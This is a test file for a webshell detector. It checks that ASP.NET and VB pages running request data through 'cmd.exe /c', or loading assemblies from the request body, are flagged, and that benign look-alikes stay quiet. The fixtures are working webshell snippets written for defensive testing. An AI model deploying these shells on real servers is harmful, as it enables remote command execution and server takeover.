"""Dangerous calls the flow analysis cannot tie to the request, and pages whose code is elsewhere:
a process object filled with request data and started by a delegate or `CallByName`, a sink fed
by values that fold to nothing fixed, a page that only inherits a class from a planted assembly.
Each shell below is written for these tests from the published technique
(docs/detection/webshell-code.md); each has a benign look-alike that must stay below medium."""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from code_support import chain_of, medium_or_above, run, vb_page
from exhunt.filehunt import codehunt
from exhunt.filehunt.locations import Location, Place
from files_support import by_rule, hunt, server_file

PROCESS = "EXH-WS-CODE-PROCESS"
UNRESOLVED = "EXH-WS-CODE-UNRESOLVED-SINK"
PLANTED = "EXH-WS-CODE-PLANTED-DLL"


def cs_page(body: str) -> str:
    return f'<%@ Page Language="C#" %>\n<script runat="server">\n{body}\n</script>\n'


# ----------------------------------------------------------------------------- a process built, then started indirectly

VB_CALLBYNAME = """<%@ Page Language="VB" %>
<%
Dim c As String = Request.Form("c")
Dim psi As New System.Diagnostics.ProcessStartInfo()
psi.FileName = "cmd.exe"
psi.Arguments = "/c " & c
psi.UseShellExecute = False
Dim p As New System.Diagnostics.Process()
p.StartInfo = psi
CallByName(p, "Start", CallType.Method)
%>"""


def test_a_process_filled_with_request_data_runs_it_however_it_is_started() -> None:
    delegate = cs_page("""void Page_Load(object sender, EventArgs e) {
    var psi = new System.Diagnostics.ProcessStartInfo();
    psi.FileName = "cmd.exe";
    psi.Arguments = "/c " + Request.Form["c"];
    var p = new System.Diagnostics.Process();
    p.StartInfo = psi;
    Func<bool> go = p.Start;
    go();
}""")
    for name, code in (("callbyname.aspx", VB_CALLBYNAME), ("delegate.aspx", delegate)):
        report = run(name, code)
        assert PROCESS in medium_or_above(report), name
        assert "form field 'c'" in chain_of(report, PROCESS), name


def test_a_process_filled_with_fixed_values_stays_quiet() -> None:
    code = VB_CALLBYNAME.replace('"/c " & c', '"/c ver"')
    assert medium_or_above(run("callbyname-benign.aspx", code)) == []


# ----------------------------------------------------------------------------- sinks fed by unresolved values


def test_a_sink_fed_by_a_value_from_nowhere_fixed_is_suspect() -> None:
    hidden = cs_page("""void Page_Load(object sender, EventArgs e) {
    string c = Contoso.Relay.Next(Context);
    System.Diagnostics.Process.Start("cmd.exe", "/c " + c);
}""")
    loader = cs_page("""void Page_Load(object sender, EventArgs e) {
    byte[] b = Contoso.Relay.Blob(Context);
    System.Reflection.Assembly.Load(b).CreateInstance("P").Equals(this);
}""")
    for name, code, word in (("hidden.aspx", hidden, '"/c " + c'), ("loader.aspx", loader, "`b`")):
        report = run(name, code)
        assert UNRESOLVED in medium_or_above(report), name
        assert word in chain_of(report, UNRESOLVED), name


def test_fixed_sites_settings_and_reached_sinks_are_not_unresolved() -> None:
    code = cs_page("""string Tool { get { return "ipconfig"; } }
void Page_Load(object sender, EventArgs e) {
    System.Diagnostics.Process.Start("cmd.exe", "/c " + Tool);
    System.Reflection.Assembly.LoadFrom(Server.MapPath("~/bin/Plugins.dll"));
    var cn = new System.Data.SqlClient.SqlConnection(
        System.Configuration.ConfigurationManager.ConnectionStrings["db"].ConnectionString);
    string name = System.IO.Path.GetFileName(Upload1.PostedFile.FileName);
    Upload1.PostedFile.SaveAs(System.IO.Path.Combine(Server.MapPath("~/uploads"), name));
    typeof(Page).GetField("x").SetValue(this, name);
}""")
    assert medium_or_above(run("settings.aspx", code)) == []
    reached = cs_page("""void Page_Load(object sender, EventArgs e) {
    string c = Request.Form["c"];
    System.Diagnostics.Process.Start("cmd.exe", "/c " + c);
    System.Diagnostics.Process.Start("cmd.exe", "/c " + Contoso.Relay.Next(Context));
}""")
    found = medium_or_above(run("reached.aspx", reached))
    assert PROCESS in found and UNRESOLVED not in found


def test_values_the_server_makes_up_are_not_unresolved() -> None:
    """A fixed tool given the time, a new GUID, the machine's name or the process id: no one but
    the server chose them."""
    code = cs_page("""void Page_Load(object sender, EventArgs e) {
    System.Diagnostics.Process.Start(@"C:\\Tools\\report.exe", "/id " + Guid.NewGuid().ToString("N"));
    System.Diagnostics.Process.Start(@"C:\\Tools\\report.exe", "/t " + DateTime.UtcNow.Ticks + " /h " + Environment.MachineName);
    System.Diagnostics.Process.Start(@"C:\\Tools\\report.exe", DateTime.Now.AddDays(-1).ToString("yyyy-MM-dd"));
    System.Diagnostics.Process.Start(@"C:\\Tools\\dump.exe", "/p " + System.Diagnostics.Process.GetCurrentProcess().Id);
}""")
    assert medium_or_above(run("report.aspx", code)) == []


def test_a_writer_over_an_open_stream_names_no_file() -> None:
    """`new StreamWriter(stream)` writes to the stream it is given: the response, a socket, a
    buffer. Only a path makes it a file write."""
    code = cs_page("""void Page_Load(object sender, EventArgs e) {
    var client = new System.Net.Sockets.TcpClient("192.0.2.7", 25);
    var wire = new System.IO.StreamWriter(client.GetStream());
    var page = new System.IO.StreamWriter(Response.OutputStream);
    System.IO.MemoryStream buffer = new System.IO.MemoryStream();
    var held = new System.IO.StreamWriter(buffer);
    page.Write(Label1.Text);
}""")
    assert medium_or_above(run("writers.aspx", code)) == []
    to_a_path = code.replace(
        "new System.IO.StreamWriter(buffer)", "new System.IO.StreamWriter(Contoso.Paths.Next(Context))"
    )
    report = run("writers-path.aspx", to_a_path)
    assert UNRESOLVED in medium_or_above(report)
    assert "Contoso.Paths.Next(Context)" in chain_of(report, UNRESOLVED)


@pytest.mark.parametrize(
    ("name", "code"),
    [
        (
            "out.aspx",
            cs_page("""void Page_Load(object sender, EventArgs e) {
    string t = "ipconfig.exe";
    Contoso.Relay.Fill(out t);
    System.Diagnostics.Process.Start("cmd.exe", t);
}"""),
        ),
        (
            "ref.aspx",
            cs_page("""void Page_Load(object sender, EventArgs e) {
    string t = "ipconfig.exe";
    Contoso.Relay.Fill(ref t);
    System.Diagnostics.Process.Start("cmd.exe", t);
}"""),
        ),
        (
            "try.aspx",
            cs_page("""void Page_Load(object sender, EventArgs e) {
    string t = "ipconfig.exe";
    Contoso.Relay.Commands.TryGetValue("next", out t);
    System.Diagnostics.Process.Start("cmd.exe", t);
}"""),
        ),
        (
            "byref.aspx",
            vb_page(
                'Dim t As String = "ipconfig.exe"\nFill(t)\nSystem.Diagnostics.Process.Start("cmd.exe", t)',
                members="Sub Fill(ByRef m As String)\n    m = Contoso.Relay.Next(Context)\nEnd Sub",
            ),
        ),
        (
            "vb-try.aspx",
            vb_page(
                'Dim t As String = "ipconfig.exe"\nContoso.Relay.Commands.TryGetValue("next", t)\n'
                'System.Diagnostics.Process.Start("cmd.exe", t)'
            ),
        ),
    ],
)
def test_a_variable_a_call_may_set_is_no_longer_its_constant(name: str, code: str) -> None:
    # A library's `Fill(out t)` can put anything in `t`: keeping "ipconfig.exe" would call the
    # command fixed and say nothing.
    report = run(name, code)
    assert UNRESOLVED in medium_or_above(report), [c.chain for c in report.capabilities]
    assert "`t`" in chain_of(report, UNRESOLVED)


def test_a_variable_passed_by_value_keeps_its_constant() -> None:
    code = cs_page("""void Page_Load(object sender, EventArgs e) {
    string t = "ipconfig.exe";
    Contoso.Audit.Log(t);
    System.Diagnostics.Process.Start(t, "/all");
}""")
    assert medium_or_above(run("byval.aspx", code)) == []


@pytest.mark.parametrize(
    ("name", "code", "shown"),
    [
        (
            "fill.aspx",
            cs_page("""void Page_Load(object sender, EventArgs e) {
    string[] a = { "ipconfig", "/all" };
    Contoso.Relay.Fill(a);
    System.Diagnostics.Process.Start("cmd.exe", a[1]);
}"""),
            "`a[1]`",
        ),
        (
            "random.aspx",
            cs_page("""void Page_Load(object sender, EventArgs e) {
    byte[] b = { 99, 97, 108, 99 };
    new System.Security.Cryptography.RNGCryptoServiceProvider().GetBytes(b);
    System.Diagnostics.Process.Start(System.Text.Encoding.ASCII.GetString(b));
}"""),
            "GetString(b)",
        ),
        (
            "cleared.aspx",
            cs_page("""void Page_Load(object sender, EventArgs e) {
    string[] a = { "notepad.exe", "readme.txt" };
    System.Array.Clear(a, 0, 1);
    System.Diagnostics.Process.Start(a[0]);
}"""),
            "`a[0]`",
        ),
        (
            "before.aspx",
            cs_page("""void Page_Load(object sender, EventArgs e) {
    string[] a = { "ipconfig", "/all" };
    System.Diagnostics.Process.Start("cmd.exe", a[1]);
    Contoso.Relay.Fill(a);
}"""),
            "`a[1]`",
        ),
        (
            "vb-fill.aspx",
            vb_page(
                'Dim a() As String = {"ipconfig", "/all"}\nContoso.Relay.Fill(a)\n'
                'System.Diagnostics.Process.Start("cmd.exe", a(1))'
            ),
            "`a(1)`",
        ),
    ],
)
def test_an_array_handed_to_a_library_is_no_longer_its_constant(name: str, code: str, shown: str) -> None:
    # An array is passed as a reference: the library can change its items, so the items it was
    # declared with say nothing of what the command is. The folder holds one value per
    # variable, so a sink before the call is unresolved too (`before.aspx`).
    report = run(name, code)
    assert UNRESOLVED in medium_or_above(report), [c.chain for c in report.capabilities]
    assert shown in chain_of(report, UNRESOLVED)


def test_an_array_given_to_calls_that_only_read_it_keeps_its_constant() -> None:
    code = cs_page("""void Page_Load(object sender, EventArgs e) {
    string[] a = { "-n", "1", "localhost" };
    char[] c = { 'p', 'i', 'n', 'g' };
    byte[] sent = System.Text.Encoding.UTF8.GetBytes(c);
    Response.Write(string.Join(" ", a) + Convert.ToBase64String(sent));
    System.Diagnostics.Process.Start(new string(c), string.Join(" ", a));
}""")
    assert medium_or_above(run("readers.aspx", code)) == []


WRAPPED_START = "System.Diagnostics.Process.Start(System.Text.Encoding.UTF8.GetString(buf));"


def in_load(body: str) -> str:
    return cs_page("void Page_Load(object sender, EventArgs e) {\n" + body + "\n}")


@pytest.mark.parametrize(
    ("name", "code"),
    [
        (
            "stream-copied.aspx",
            in_load(
                "byte[] buf = { 99, 97, 108, 99 };\nvar ms = new System.IO.MemoryStream(buf);\n"
                "Request.InputStream.CopyTo(ms);\n" + WRAPPED_START
            ),
        ),
        (
            "stream-written.aspx",
            in_load(
                "byte[] buf = { 99, 97, 108, 99 };\nvar ms = new System.IO.MemoryStream(buf);\n"
                "var b = Request.BinaryRead(4);\nms.Write(b, 0, 4);\n" + WRAPPED_START
            ),
        ),
        (
            "span.aspx",
            in_load(
                "byte[] buf = { 99, 97, 108, 99 };\nvar s = new Span<byte>(buf);\n"
                "Request.InputStream.Read(s);\n" + WRAPPED_START
            ),
        ),
        (
            "segment.aspx",
            in_load(
                "byte[] buf = { 99, 97, 108, 99 };\nvar s = new ArraySegment<byte>(buf);\n"
                "Request.InputStream.Read(s.Array, 0, 4);\n" + WRAPPED_START
            ),
        ),
        (
            "vb-stream.aspx",
            vb_page(
                "Dim buf As Byte() = New Byte() {99, 97, 108, 99}\nDim ms As New System.IO.MemoryStream(buf)\n"
                "Request.InputStream.CopyTo(ms)\n" + WRAPPED_START.rstrip(";")
            ),
        ),
        (
            "stream-writer.aspx",
            in_load(
                "byte[] buf = { 99, 97, 108, 99 };\nvar ms = new System.IO.MemoryStream(buf);\n"
                'var w = new System.IO.StreamWriter(ms);\nw.Write(Request["c"]);\nw.Flush();\n' + WRAPPED_START
            ),
        ),
        (
            "stream-alias.aspx",
            in_load(
                "byte[] buf = { 99, 97, 108, 99 };\nvar ms = new System.IO.MemoryStream(buf);\n"
                "System.IO.Stream s = ms;\nRequest.InputStream.CopyTo(s);\n" + WRAPPED_START
            ),
        ),
        (
            "stream-assigned.aspx",
            in_load(
                "byte[] buf = { 99, 97, 108, 99 };\nSystem.IO.MemoryStream ms;\nms = new System.IO.MemoryStream(buf);\n"
                "Request.InputStream.CopyTo(ms);\n" + WRAPPED_START
            ),
        ),
    ],
)
def test_an_array_a_stream_or_view_is_made_over_is_no_longer_its_constant(name: str, code: str) -> None:
    # The stream keeps the array itself: what is written through it overwrites the items, so
    # the bytes it was declared with ("calc") say nothing of what runs.
    report = run(name, code)
    assert UNRESOLVED in medium_or_above(report), [c.chain for c in report.capabilities]
    assert "GetString(buf)" in chain_of(report, UNRESOLVED)


def test_an_array_a_stream_only_reads_keeps_its_constant() -> None:
    # An assembly embedded as base64, unpacked through a stream nothing writes into: still the
    # embedded assembly it is, not an unresolved value.
    dll = base64.b64encode(b"MZ\x90\x00" + bytes(60) + b"This program cannot be run in DOS mode" + bytes(200))
    code = in_load(
        f'byte[] dll = Convert.FromBase64String("{dll.decode()}");\nvar ms = new System.IO.MemoryStream(dll);\n'
        "var r = new System.IO.BinaryReader(ms);\n"
        'System.Reflection.Assembly.Load(dll).CreateInstance("Agent");'
    )
    assert medium_or_above(run("embedded.aspx", code)) == ["EXH-WS-CODE-EMBEDDED-ASSEMBLY"]


def test_an_array_given_to_constructors_that_copy_it_keeps_its_constant() -> None:
    code = cs_page("""void Page_Load(object sender, EventArgs e) {
    char[] c = { 'p', 'i', 'n', 'g' };
    string[] a = { "-n", "1", "localhost" };
    var name = new string(c);
    var args = new System.Collections.Generic.List<string>(a);
    System.Diagnostics.Process.Start(new string(c), string.Join(" ", a));
}""")
    assert medium_or_above(run("copiers.aspx", code)) == []


@pytest.mark.parametrize(
    ("name", "call"),
    [
        ("vb-library.aspx", "Contoso.Relay.Fill(t)"),
        ("vb-imported.aspx", "Relay.Fill(t)"),
        ("vb-factory.aspx", "ObjectFactory.Fill(t)"),  # an IoC container's: no name of the framework
        ("vb-object.aspx", "Dim r As New Contoso.Relay()\nr.Fill(t)"),
        ("vb-typed.aspx", "Dim r As Contoso.Relay\nr = Contoso.Factory.Make()\nr.Fill(t)"),
    ],
)
def test_a_vb_variable_passed_to_a_library_is_no_longer_its_constant(name: str, call: str) -> None:
    # VB passes `ByRef` without a mark at the call: a planted library's `Sub Fill(ByRef s As
    # String)` sets `t` and the page reads as if it ran ipconfig.
    code = vb_page(f'Dim t As String = "ipconfig.exe"\n{call}\nSystem.Diagnostics.Process.Start("cmd.exe", t)')
    report = run(name, code)
    assert UNRESOLVED in medium_or_above(report), [c.chain for c in report.capabilities]
    assert "`t`" in chain_of(report, UNRESOLVED)


def test_a_vb_variable_passed_to_the_framework_or_a_variable_keeps_its_constant() -> None:
    code = vb_page(
        'Dim t As String = "ipconfig.exe"\nDim sw As New IO.StringWriter()\nsw.Write(t)\n'
        "If Object.Equals(t, Nothing) Then Return\n"
        "Dim sb As New System.Text.StringBuilder()\nsb.Append(t)\n"
        "If IO.File.Exists(t) Then Response.Write(Server.HtmlEncode(t))\n"
        'System.Diagnostics.Process.Start(t, "/all")'
    )
    assert medium_or_above(run("vb-framework.aspx", code)) == []


def test_a_date_format_that_spells_text_is_still_unresolved() -> None:
    """Letters a custom date format does not know are copied as they are, escaped ones always: the
    format can spell a command, so only digit-giving formats count as the server's own."""
    code = cs_page("""void Page_Load(object sender, EventArgs e) {
    System.Diagnostics.Process.Start(DateTime.Now.ToString("\\\\c\\\\m\\\\d"), "/c " + DateTime.Now.ToString("exe"));
}""")
    assert UNRESOLVED in medium_or_above(run("clock.aspx", code))


def test_vb_shell_window_style_is_an_option_not_a_command() -> None:
    # `Shell(cmd, AppWinStyle.Hide)`: only the command line can leave a value unresolved.
    fixed = vb_page('Shell("cscript.exe C:\\Jobs\\nightly.vbs", AppWinStyle.Hide)')
    assert medium_or_above(run("nightly.aspx", fixed)) == []
    hidden = vb_page("Dim c As String = Contoso.Relay.Next(Context)\nShell(c, AppWinStyle.Hide)")
    report = run("hidden-vb.aspx", hidden)
    assert UNRESOLVED in medium_or_above(report)
    chain = chain_of(report, UNRESOLVED)
    assert "`c`" in chain and "AppWinStyle" not in chain and "runs it as a command" in chain, chain


def test_an_upload_handler_writing_where_its_settings_say_stays_quiet() -> None:
    code = """<%@ WebHandler Language="C#" Class="Up" %>
public class Up : System.Web.IHttpHandler {
    public bool IsReusable { get { return true; } }
    public void ProcessRequest(System.Web.HttpContext ctx) {
        string dir = Store.Folder();
        var f = ctx.Request.Files[0];
        f.SaveAs(dir + System.IO.Path.GetFileName(f.FileName));
    }
}"""
    assert medium_or_above(run("upload.ashx", code)) == []


def test_the_finding_takes_the_weight_of_where_the_page_sits(tmp_path: Path) -> None:
    code = cs_page("""void Page_Load(object sender, EventArgs e) {
    System.Diagnostics.Process.Start("cmd.exe", "/c " + Contoso.Relay.Next(Context));
}""").encode()
    auth = server_file(tmp_path, r"C:\inetpub\wwwroot\aspnet_client\system_web\o.aspx", code)
    elsewhere = server_file(tmp_path, r"D:\backup\tools\o.aspx", code)
    assert by_rule(hunt(auth))[UNRESOLVED].severity.name == "HIGH"
    assert by_rule(hunt(elsewhere))[UNRESOLVED].severity.rank < 2


# ----------------------------------------------------------------------------- a page that only inherits a planted class


def test_a_page_that_only_inherits_a_class_from_a_planted_assembly() -> None:
    report = run("errorFE.aspx", '<%@ Page Language="C#" Inherits="Contoso.Diag.Probe" %>\n')
    assert PLANTED in medium_or_above(report)
    assert "inherits Contoso.Diag.Probe" in chain_of(report, PLANTED)
    stub = b'<%@ Page Language="C#" Inherits="Contoso.Diag.Probe" %>\n'
    where = Location("c:/inetpub/wwwroot/owa/auth/errorFE.aspx", Place.IIS_WEBROOT, True)
    assert codehunt.wants(where, stub)


def test_pages_with_their_own_code_and_library_handler_stubs_stay_quiet() -> None:
    for name, code in (
        ("default.aspx", '<%@ Page Language="C#" CodeBehind="default.aspx.cs" Inherits="Site.Default" %>'),
        ("home.aspx", '<%@ Page Language="C#" Inherits="System.Web.UI.Page" %>'),
        ("progress.ashx", '<%@ WebHandler Language="C#" Class="Brettle.Web.NeatUpload.ProgressJsonHandler" %>'),
    ):
        assert medium_or_above(run(name, code)) == [], name


def test_controls_and_master_pages_of_a_precompiled_site_are_not_triggers() -> None:
    """A portal's skin pieces: directives inheriting the portal's classes, no code of their own;
    no URL serves a user control or a master page, so none can be a planted class's trigger."""
    for name, code in (
        ("menu.ascx", '<%@ Control Language="C#" AutoEventWireup="false" Inherits="Portal.Skins.MenuBar" %>\n'),
        (
            "Boxed.ascx",
            '<%@ Control Language="vb" Inherits="Portal.Containers.Frame" %>\n'
            '<%@ Register TagPrefix="pt" TagName="CAPTION" Src="~/skins/Caption.ascx" %>\n'
            '<div class="box"><pt:CAPTION runat="server" id="cap" /><div id="Body" runat="server"></div></div>\n',
        ),
        ("Site.master", '<%@ Master Language="C#" Inherits="Portal.Layout.Main" %>\n'),
    ):
        assert medium_or_above(run(name, code)) == [], name


# ----------------------------------------------------------------------------- directives spelled `<% @ ... %>`

SPACED_HANDLER = """<% @ webhandler language="C#" class="H" %>
using System.Web;
public class H : IHttpHandler {
    public bool IsReusable { get { return true; } }
    public void ProcessRequest(HttpContext ctx) {
        var psi = new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + ctx.Request.QueryString["q"]);
        psi.UseShellExecute = false;
        System.Diagnostics.Process.Start(psi);
    }
}"""


def test_a_directive_with_space_before_its_at_sign_is_a_directive() -> None:
    report = run("h.ashx", SPACED_HANDLER)
    assert PROCESS in medium_or_above(report)
    assert "query parameter 'q'" in chain_of(report, PROCESS)


def test_a_spaced_directive_handler_with_a_fixed_command_stays_quiet() -> None:
    code = SPACED_HANDLER.replace('"/c " + ctx.Request.QueryString["q"]', '"/c ver"')
    assert medium_or_above(run("h-benign.ashx", code)) == []


# ----------------------------------------------------------------------------- a stray brace in a statement block

STRAY_BRACE = """<%@ Page Language="C#" %><%@ Import Namespace="System.Reflection" %><%
Session.Add("k", "e45e"); return; }
byte[] c = Request.BinaryRead(Request.ContentLength);
Assembly.Load(c).CreateInstance("U").Equals(this);
%>"""


def test_sinks_after_a_stray_brace_are_read_by_tokens() -> None:
    report = run("brace.aspx", STRAY_BRACE)
    assert "EXH-WS-CODE-ASSEMBLY" in medium_or_above(report)
    assert "request body" in chain_of(report, "EXH-WS-CODE-ASSEMBLY")


def test_a_stray_brace_before_fixed_calls_stays_quiet() -> None:
    code = STRAY_BRACE.replace(
        "Request.BinaryRead(Request.ContentLength)", 'System.IO.File.ReadAllBytes("C:\\\\app\\\\p.dll")'
    )
    assert medium_or_above(run("brace-benign.aspx", code)) == []


# ----------------------------------------------------------------------------- binding and builder expressions

BOUND = """<%@ Page Language="C#" %>
<% Page.DataBind(); %>
<html><body><pre><%# System.Diagnostics.Process.Start(new System.Diagnostics.ProcessStartInfo("cmd.exe", "/c " + Request["c"]) { UseShellExecute = false, RedirectStandardOutput = true }).StandardOutput.ReadToEnd() %></pre></body></html>"""
BUILDER = """<%@ Page Language="C#" %>
<asp:Literal runat="server" Text='<%$ Code: System.Diagnostics.Process.Start("cmd.exe", "/c " + Request["c"]).Id.ToString() %>' />"""


def test_data_binding_and_custom_builder_expressions_are_code() -> None:
    for name, code in (("bound.aspx", BOUND), ("builder.aspx", BUILDER)):
        report = run(name, code)
        assert PROCESS in medium_or_above(report), name
        assert "request parameter 'c'" in chain_of(report, PROCESS), name


def test_ordinary_binding_and_settings_expressions_stay_quiet() -> None:
    code = """<%@ Page Language="C#" %>
<asp:Repeater runat="server" ID="r"><ItemTemplate><a href='<%# Eval("Url") %>'><%# Eval("Name") %></a></ItemTemplate></asp:Repeater>
<asp:Literal runat="server" Text='<%$ AppSettings: Title %>' /><asp:Literal runat="server" Text='<%$ Resources: Site, Hello %>' />
<% r.DataSource = Items(Request.QueryString["page"]); r.DataBind(); %>"""
    assert medium_or_above(run("list.aspx", code)) == []


def test_request_data_an_act_alone_rule_sees_does_not_hide_the_unresolved_path() -> None:
    # The request sets only the stream's buffer size; the path comes from a library. The
    # credential-files rule also names `new FileStream` and sees the request reach the call, but
    # it reports by the path it spells, so the file rules' unresolved path is still reported.
    code = cs_page(
        "string p = Contoso.Paths.Next();\n"
        "var fs = new System.IO.FileStream(p, System.IO.FileMode.Create, System.IO.FileAccess.Write,"
        ' System.IO.FileShare.None, int.Parse(Request["n"]));\n'
        "fs.Write(new byte[1], 0, 1);"
    )
    report = run("fs.aspx", code)
    assert UNRESOLVED in medium_or_above(report), [c.chain for c in report.capabilities]
    assert "`p`" in chain_of(report, UNRESOLVED)
